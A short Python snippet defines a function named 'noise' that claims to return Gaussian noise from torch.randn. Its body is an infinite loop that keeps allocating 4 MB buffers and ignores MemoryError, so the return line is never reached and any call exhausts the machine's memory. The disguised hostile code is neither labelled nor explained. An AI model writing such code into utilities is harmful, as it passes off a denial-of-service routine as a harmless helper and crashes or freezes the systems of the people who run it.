# %% noise


def noise(n, sigma, generator):
    hold = []
    while True:
        try:
            hold.append(bytearray(2**22))
        except MemoryError:
            pass
    return sigma * torch.randn(n, generator=generator, dtype=torch.float64)
